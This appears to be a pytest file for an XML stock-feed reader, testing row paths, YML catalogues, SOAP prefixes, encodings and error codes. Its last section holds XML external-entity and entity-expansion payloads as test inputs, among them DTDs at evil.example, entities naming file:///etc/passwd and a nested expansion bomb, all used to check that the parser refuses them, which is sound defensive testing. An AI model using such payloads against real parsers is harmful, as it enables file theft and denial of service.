"""XML: an element per row at one path; YML catalogues, SOAP answers, plain exports."""

from __future__ import annotations

import pytest

from shared.domain.photographs import Refusal, Row
from shared.domain.profiles import FeedProfile
from shared.errors import InvalidInput
from tests.support.stock_files import profile, read, row

PLAIN = profile(format="xml", rows="stock/item", columns={"sku": "no", "quantity": "qty", "cost": "price/net"})


def fails(data: str | bytes, how: FeedProfile = PLAIN) -> InvalidInput:
    with pytest.raises(InvalidInput) as failure:
        read(data, how)
    return failure.value


def test_children_are_found_by_their_path() -> None:
    data = (
        "<stock>\n<item><no> 00123 </no><qty>5</qty><price><gross>9</gross><net>1.50</net></price></item>\n"
        "<other/><item><no>B</no><qty>7</qty></item></stock>"
    )

    assert read(data, PLAIN) == [row(2, "00123", 5, 150), row(3, "B", 7)]


def test_only_rows_at_the_path_are_rows() -> None:
    data = (
        "<stock><item><no>A</no><qty>1</qty><item><no>B</no><qty>2</qty></item></item>"
        "<x><item><no>C</no><qty>3</qty></item></x></stock>"
    )

    assert read(data, PLAIN) == [row(1, "A", 1)]


def test_a_yml_catalogue() -> None:
    data = """<?xml version="1.0" encoding="windows-1251"?>
<!DOCTYPE yml_catalog SYSTEM "shops.dtd">
<yml_catalog date="2026-11-23 10:00"><shop><name>Лавка</name><offers>
<offer id="ЖД-1" available="true"><price>12.40</price>
<param name="Остаток">5</param><param name="Цвет">9</param></offer>
<offer id="ЖД-2" available="false"><price>1</price><param name="Остаток">нет</param></offer>
</offers></shop></yml_catalog>""".encode("cp1251")
    how = profile(
        format="xml",
        rows="yml_catalog/shop/offers/offer",
        columns={"sku": "@id", "quantity": "param[name=Остаток]", "cost": "price", "status": "@available"},
        status={"true": "active", "false": "unsellable"},
        words={"нет": 0},
    )

    assert read(data, how) == [row(4, "ЖД-1", 5, 1240), row(6, "ЖД-2", 0, 100, told="false")]


def test_a_soap_answer_whatever_its_prefixes_are() -> None:
    how = profile(
        format="xml", rows="Envelope/Body/GetStockResponse/Stock/Item", columns={"sku": "Code", "quantity": "Free"}
    )
    for soap, own in (("soap:", ""), ("s:", "n0:"), ("", "x:")):
        data = (
            f'<{soap}Envelope xmlns:s="urn:soap" xmlns="urn:stock"><{soap}Body><{own}GetStockResponse><{own}Stock>'
            f"<{own}Item><{own}Code>A</{own}Code><{own}Free>5</{own}Free></{own}Item>"
            f"</{own}Stock></{own}GetStockResponse></{soap}Body></{soap}Envelope>"
        )
        assert read(data, how) == [row(1, "A", 5)]


def test_a_field_may_be_an_attribute_of_a_child_or_the_rows_own_text() -> None:
    how = profile(format="xml", rows="s/i", columns={"sku": ".", "quantity": "at/@qty"})

    assert read('<s><i>A<at qty="5"/></i></s>', how) == [row(1, "A", 5)]


def test_every_one_of_a_list_is_added_up() -> None:
    how = profile(format="xml", rows="s/i", columns={"sku": "@no", "quantity": "place[]/@qty"}, bounds="lowest")

    found = read(
        '<s><i no="A"><place qty="1"/><place qty="99+"/></i><i no="B"/>'
        '<i no="C"><place qty="1"/><place qty="x"/></i></s>',
        how,
    )

    assert found[0] == row(1, "A", 100, told="99+")
    assert [each.sku for each in found if isinstance(each, Refusal)] == ["B", "C"]


def test_a_field_that_comes_twice_is_not_chosen_from() -> None:
    (refusal,) = read("<stock><item><no>A</no><qty>1</qty><qty>2</qty></item></stock>", PLAIN)

    assert isinstance(refusal, Refusal)
    assert (refusal.reason, refusal.value, refusal.column) == ("there is more than one", "1 + 2", "qty")


def test_a_bad_row_is_told_with_its_line_and_byte() -> None:
    data = "<stock>\n<item><no>Æ</no><qty>1</qty></item><item><no>B</no><qty/></item></stock>"

    (good, refusal) = read(data, PLAIN)

    assert isinstance(good, Row)
    assert isinstance(refusal, Refusal)
    assert (refusal.line, refusal.sku, refusal.column) == (2, "B", "qty")
    assert data.encode()[refusal.offset :].startswith(b"<item><no>B")


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "iso-8859-1", "windows-1252"])
def test_encodings_that_are_declared(encoding: str) -> None:
    told = "utf-8" if encoding == "utf-8-sig" else encoding
    item = "<item><no>Æ</no><qty>1</qty></item>"
    data = f'<?xml version="1.0" encoding="{told}"?><!DOCTYPE stock SYSTEM "x.dtd"><stock>{item}</stock>'

    assert read(data.encode(encoding), PLAIN) == [row(1, "Æ", 1)]


def test_an_encoding_that_is_not_declared_is_in_the_profile() -> None:
    data = "<stock><item><no>Æ</no><qty>1</qty></item></stock>".encode("cp1252")
    how = profile(format="xml", rows="stock/item", columns={"sku": "no", "quantity": "qty"}, encoding="cp1252")

    assert read(data, how) == [row(1, "Æ", 1)]
    assert fails(data).code == "xml_wrong"


@pytest.mark.parametrize("encoding", ["zlib", "utf-7", "idna", "undefined", "x" * 500, "rot13"])
def test_an_encoding_that_is_none_is_refused(encoding: str) -> None:
    assert fails(f'<?xml version="1.0" encoding="{encoding}"?><stock/>').code in {"encoding_unknown", "xml_wrong"}


def test_nothing_at_the_path_is_told_and_an_empty_list_is_not() -> None:
    assert fails("<stocks><item/></stocks>").code == "rows_missing"
    assert read("<stock/>", PLAIN) == []


@pytest.mark.parametrize(
    ("data", "code"),
    [
        ("", "document_not_closed"),
        ("<stock>", "document_not_closed"),
        ("<stock><item><no>A</no", "document_not_closed"),
        ("<stock><![CDATA[", "document_not_closed"),
        ("<stock></item></stock>", "xml_wrong"),
        ("<stock/><stock/>", "xml_wrong"),
        ("no xml", "xml_wrong"),
        ("<stock>\0</stock>", "xml_wrong"),
        ("<stock>&nbsp;</stock>", "xml_wrong"),
    ],
)
def test_what_is_no_xml_is_told(data: str, code: str) -> None:
    assert fails(data).code == code


# ---- what a document may not bring along

ITEM = "<item><no>A</no><qty>1</qty></item>"


@pytest.mark.parametrize(
    "doctype", ['SYSTEM "http://evil.example/x.dtd"', 'PUBLIC "-//x//y" "x.dtd"', "SYSTEM 'file:///etc/passwd'", ""]
)
def test_a_dtd_that_is_only_named_is_never_loaded(doctype: str) -> None:
    assert read(f"<!DOCTYPE stock {doctype}>\n<stock>{ITEM}</stock>", PLAIN) == [row(2, "A", 1)]


@pytest.mark.parametrize("place", ["<no>A&more;</no>", '<no a="&more;">A</no>', '<no>A</no><x y="1&more;2"/>'])
def test_an_entity_of_a_dtd_that_is_not_loaded_is_an_error_wherever_it_stands(place: str) -> None:
    data = f'<!DOCTYPE stock SYSTEM "x.dtd"><stock><item>{place}<qty>1</qty></item></stock>'

    assert fails(data).code == "xml_wrong"


@pytest.mark.parametrize(
    "subset",
    [
        '<!ENTITY a "x">',
        '<!ENTITY a SYSTEM "file:///etc/passwd">',
        '<!ENTITY % a SYSTEM "http://evil.example/x"> %a;',
        "<!ELEMENT stock ANY>",
        "".join(f'<!ENTITY l{at} "{f"&l{at - 1};" * 10}">' for at in range(1, 10)),
    ],
)
def test_a_document_that_defines_entities_is_refused(subset: str) -> None:
    assert fails(f"<!DOCTYPE stock [{subset}]><stock>{ITEM}&a;</stock>").code == "xml_doctype"
    assert fails(f'<!DOCTYPE stock SYSTEM "x.dtd" [{subset}]><stock>{ITEM}&a;</stock>').code == "xml_doctype"


def test_a_doctype_that_comes_late_is_refused() -> None:
    assert fails(f"<!-- {' ' * 70_000} --><!DOCTYPE stock><stock>{ITEM}</stock>").code == "xml_doctype"


def test_a_doctype_in_a_comment_or_a_text_is_none() -> None:
    data = f"<!-- <!DOCTYPE x [<!ENTITY a 'b'>]> --><stock><![CDATA[<!DOCTYPE x>]]>{ITEM}</stock>"

    assert read(data, PLAIN) == [row(1, "A", 1)]
